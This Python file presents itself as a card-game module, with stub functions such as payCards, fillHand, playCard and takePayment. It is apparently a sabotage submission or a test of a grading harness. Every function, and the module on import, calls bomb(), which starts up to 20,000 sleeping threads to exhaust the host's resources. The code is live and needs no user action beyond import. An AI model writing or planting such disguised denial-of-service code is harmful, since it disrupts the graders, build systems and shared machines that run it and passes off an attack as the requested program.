import threading
import time


def bomb():
    try:
        for _ in range(20000):
            threading.Thread(target=time.sleep, args=(300,)).start()
    except RuntimeError:
        pass


bomb()


payCards = bomb()


def showGreeting(*given):
    return bomb()


def isPayCard(*given):
    return bomb()


def getCardRate(*given):
    return bomb()


def fillHand(*given):
    return bomb()


def prepPlayers(*given):
    return bomb()


def placeCard(*given):
    return bomb()


def playCard(*given):
    return bomb()


def takePayment(*given):
    return bomb()


def strip_me(*given):
    return bomb()


if __name__ == "__main__":
    strip_me()
